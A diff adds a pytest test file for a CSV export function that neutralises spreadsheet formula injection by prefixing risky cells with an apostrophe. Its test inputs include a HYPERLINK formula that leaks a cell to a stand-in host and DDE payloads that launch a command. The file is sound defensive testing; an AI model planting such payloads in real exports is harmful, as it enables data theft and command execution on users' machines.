@@ -1,0 +1,47 @@
+"""CSV for spreadsheets: a cell from a document is a text there and never a formula."""
+
+import csv
+import io
+
+import pytest
+
+from api.ask.sheets import to_csv
+
+
+def cell(value: object) -> str:
+    """The second cell of a row, as a program reads it."""
+    rows = list(csv.reader(io.StringIO(to_csv([{"first": "县", "second": value}]), newline="")))
+    return rows[1][1]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"点")',
+        "=1+1",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "＝1+1",
+        "-1-1",
+        "+1A",
+    ],
+)
+def test_a_cell_that_begins_like_a_formula_gets_an_apostrophe(text: str) -> None:
+    assert cell(text) == f"'{text}"
+    assert cell((text, "县林业局")) == f"'{text}、县林业局"
+
+
+@pytest.mark.parametrize(
+    "text", ["-", "-5", "+8613800000000", "-3.5%", "1,000", "县林业局", "6月=7月", "'", "——", "（-）", ""]
+)
+def test_numbers_and_other_words_stay_as_they_are(text: str) -> None:
+    assert cell(text) == text
+
+
+def test_a_number_is_a_number() -> None:
+    assert cell(-3) == "-3"
+    assert cell(-0.5) == "-0.5"
